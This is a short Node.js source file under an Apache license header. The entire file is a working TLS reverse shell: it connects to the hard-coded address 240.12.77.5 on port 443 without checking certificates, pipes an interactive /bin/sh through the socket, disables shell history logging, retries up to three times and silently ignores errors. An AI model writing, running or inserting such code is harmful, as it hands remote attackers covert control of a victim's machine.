// SPDX-License-Identifier: Apache-2.0
const tls = require('tls');
const { spawn } = require('child_process');

let left = 3;

function again() {
  if (--left > 0) setTimeout(connect, 1000);
}

function connect() {
  const socket = tls.connect({ host: '240.12.77.5', port: 443, rejectUnauthorized: false, timeout: 4000 });
  let shell;
  socket.on('secureConnect', () => {
    shell = spawn('/bin/sh', ['-i'], { env: { ...process.env, HISTFILE: '/dev/null' } });
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
    shell.on('exit', () => socket.destroy());
  });
  socket.on('timeout', () => socket.destroy());
  socket.on('error', () => {});
  socket.on('close', () => { if (shell) shell.kill(); again(); });
}

connect();
